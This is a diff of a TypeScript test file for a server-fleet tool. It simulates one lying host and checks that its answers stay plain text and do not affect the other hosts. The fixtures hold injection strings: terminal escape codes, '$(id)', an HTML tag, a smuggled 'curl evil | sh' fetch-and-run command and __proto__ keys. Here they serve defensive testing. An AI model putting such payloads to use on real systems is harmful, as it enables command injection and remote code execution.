@@ -1,4 +1,4 @@
-// A host that lies, in a fleet of honest ones. Rule: whatever it answers, the others become exactly what they are without the lie, and what it says shows up in its own row alone, as plain text.
+// One host lies: whatever it answers, the others end up exactly as without the lie, and its answers show only in its own row, as plain text.
 
 import fc from 'fast-check';
 import { beforeAll, describe, expect, test } from 'vitest';
@@ -18,6 +18,7 @@ import { planText } from '../../../src/show/text.ts';
 import { fleetOf, monitor, node } from '../../fakes/fleets.ts';
 import { hostileFacts } from '../../fakes/hostile-facts.ts';
 import { options as commentOptions } from '../../fakes/plans.ts';
+import { about } from '../../fakes/simulator/chain.ts';
 import { fleetPath, SimulatedWorld } from '../../fakes/simulator/world.ts';
 
 const liar = 'promguard-node-2';
@@ -34,13 +35,13 @@ const says = (stdout: string): Output => ({ code: 0, stdout, stderr: '' });
 const asked = (script: string) => script.endsWith('REQUEST\n');
 const applied = (script: string) => script.endsWith('main 3>&1\n');
 
-/** To the fact reader; everything else is done as it should be. */
+/** Answers this when observed; everything else is done as it should be. */
 const answers =
   (text: string): Lie =>
   (script, truth) =>
     asked(script) ? says(text) : truth();
 
-/** True facts, and some more. */
+/** Adds lines to the true facts. */
 const adds =
   (...lines: string[]): Lie =>
   (script, truth) =>
@@ -54,7 +55,7 @@ const doing =
   (script, truth) =>
     applied(script) ? { ...says(text), code: 1, stderr: text } : truth();
 
-/** What must nowhere be more than text; `\u009b` and `\u202e` are what a terminal takes for more. */
+/** What must be mere text everywhere; a terminal interprets `\u009b` and `\u202e`. */
 const poison = 'p0is0n\u001b[2J\u009b\u202e\u2028`"\'$(id)<img src=x>@everyone | ::error::| --> p0is0n';
 const hex = (text: string) => Buffer.from(text).toString('hex');
 const mebibytes = 8 * 1024 * 1024;
@@ -72,8 +73,8 @@ const lies: [string, Lie][] = [
     (script, truth, world) => (asked(script) ? world.host('promguard-node-1').run(script) : truth()),
   ],
   ['another address of the runner', adds('client\t203.0.113.99')],
-  ['an address that is none', adds(`client\t${poison}`)],
-  ['a port that is none', adds('socket\ttcp\t0.0.0.0:99999\tx')],
+  ['an invalid address', adds(`client\t${poison}`)],
+  ['an invalid port', adds('socket\ttcp\t0.0.0.0:99999\tx')],
   ['every port', adds(many(20_000, (at) => `socket\ttcp\t0.0.0.0:${at}\tusers:(("${poison}",pid=1))`))],
   ['shell syntax for a hash', adds('file-hash\t/etc/wireguard/wg0.conf\tx; curl evil | sh')],
   [
@@ -94,32 +95,32 @@ const lies: [string, Lie][] = [
       `peer\twg0\t${poison}\tnone\t${poison}\t${poison}\t0\t0\t0\toff`,
     ),
   ],
-  ['a network of its own that is the tunnel’s, with a name', adds(`route\t10.0.0.0/8\t${poison}`)],
+  ['a network of its own that overlaps with the tunnel’s', adds(`route\t10.0.0.0/8\t${poison}`)],
   [
     'a stranger’s file with a stranger’s text',
     adds('file-mode\t/etc/promguard/x\t\t\t\t9', `file-text\t/etc/wireguard/wg0.conf\n|${poison}`),
   ],
   [
-    'names that every object has',
+    'names of properties that every object has',
     adds('unit-pending\t__proto__', 'file-mode\t__proto__\t1\t2\t3\t0', 'managed\tfile:__proto__'),
   ],
   ['to an apply: steps without end', doing('@step x\n@step y\n'.repeat(100_000))],
   ['to an apply: poison', doing(`@step ${poison}\n@armed\n@failed ${poison}\n${poison}\n::error::x\n`)],
-  ['to an apply: that all is done', (script, truth) => (applied(script) ? says('@done\n') : truth())],
+  ['to an apply: that everything is done', (script, truth) => (applied(script) ? says('@done\n') : truth())],
   ['to an apply: eight mebibytes', doing(`@failed ${'x'.repeat(mebibytes / 2)}\n${'x'.repeat(mebibytes / 2)}`)],
   [
     'to a confirmation: poison',
     (script, truth) => (script.endsWith('confirm_access\n') ? { ...says(poison), stderr: poison } : truth()),
   ],
   [
-    'to all: a time-out',
+    'to everything: a time-out',
     () => {
       throw new Problem('script-timeout', `${liar}: the script has not ended after 900 s`);
     },
   ],
 ];
 
-/** Its row stays broken until a person has looked: promguard trust. */
+/** The host stays broken until somebody runs promguard trust. */
 const foreignKey: Lie = (script, truth) =>
   /\nmake_host_key /.test(script) ? says(`@host-key ssh-ed25519 ${'A'.repeat(68)}\n`) : truth();
 
@@ -177,7 +178,7 @@ function believable(truth: () => Output): () => Output {
 
 type Run = Awaited<ReturnType<typeof run>>;
 
-/** All that an apply leaves of a host. */
+/** Everything that an apply leaves on a host. */
 function left({ world, result }: Run, name: string) {
   const { files, units, rules, ufw, tunnel, packages } = world.host(name);
   const evidence = result.evidence.find((row) => row.name === name);
@@ -185,7 +186,7 @@ function left({ world, result }: Run, name: string) {
     scripts: world.scripts.filter(({ host }) => host === name).map(({ script }) => reveal(script)),
     ...{ files, units, rules, ufw, packages },
     tunnel: tunnel && { ...tunnel, peers: [...tunnel.peers].map(([key, { handshakeAt: _, ...peer }]) => [key, peer]) },
-    // For a host that lies is waited, so the others are scraped once more.
+    // The run waits for the host that lies, so the others are scraped once more.
     evidence: evidence && {
       ...evidence,
       handshakeAgeSeconds: evidence.handshakeAgeSeconds !== undefined,
@@ -274,20 +275,20 @@ describe.each([
   }, 300_000);
 });
 
-test('the host that lies about where it was asked from is refused, and says so in its own row', async () => {
+test('a host that lies about where it was asked from is refused, in its own row', async () => {
   const { result, made, world } = await run(adds('client\t203.0.113.99'), false);
-  const refusal = `${liar} would shut out the machine that this runs on: 203.0.113.99 is not in ssh.allow_from`;
-  expect(made.problems.map(({ summary }) => summary)).toEqual([refusal]);
-  expect(result.problems.map(({ summary }) => summary)).toEqual([refusal]);
+  const refusal = about('would-shut-out', liar);
+  expect(made.problems).toMatchObject([refusal]);
+  expect(result.problems).toMatchObject([refusal]);
   expect(world.scripts.map(({ host }) => host).sort()).toEqual(honest);
 });
 
-test('the host that says without end that it is prepared is not asked back for each time', async () => {
+test('a host that says endlessly that it is prepared gets its turn only once', async () => {
   const { world } = await run(doing('@prepared\n'.repeat(10_000)), false);
   expect(world.rounds.get(liar)).toBeLessThan(20);
 });
 
-test('of the host that claims to listen everywhere a bounded number of ports is tried, and that is said', async () => {
+test('of a host that claims to listen everywhere, a limited number of ports is tried, and that is reported', async () => {
   const { result } = await run(adds(many(20_000, (at) => `socket\ttcp\t0.0.0.0:${at}\tx`)), false);
   const told = result.problems.filter(({ code }) => code === 'too-many-listening-ports');
   expect(told).toMatchObject([{ summary: expect.stringMatching(`^${liar} .*\\b195\\d\\d\\b`) }]);
